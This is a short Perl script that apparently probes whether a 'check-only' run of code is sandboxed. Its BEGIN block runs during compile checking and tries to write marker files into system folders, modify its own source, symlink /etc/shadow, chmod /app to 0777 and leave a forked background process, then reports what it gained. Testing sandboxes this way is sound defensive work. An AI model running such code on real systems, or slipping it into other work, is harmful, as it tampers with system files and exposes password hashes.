# Runs code while it is only checked: changes its own source and leaves messages for the run.
BEGIN {
    my $gained = '';
    for my $folder ('/app', '/usr/lib', '/etc', '/var', '/', $ENV{HOME}, '/tmp', '/dev/shm') {
        -e "$folder/hostile-check" and $gained .= " message in $folder";
        open my $file, '>', "$folder/hostile-check" and $folder =~ m{^/(?:app|usr/lib|etc|var|)$} and $gained .= " $folder";
    }
    open my $own, '>>', '/app/main.pl' and $gained .= ' source';
    symlink '/etc/shadow', '/app/main.pl.link' and $gained .= ' link';
    chmod 0777, '/app' and $gained .= ' mode';
    fork or do { setpgrp; sleep 1000 } if $^C;
    die "GAINED$gained\n" if $gained;
}
print "done\n";
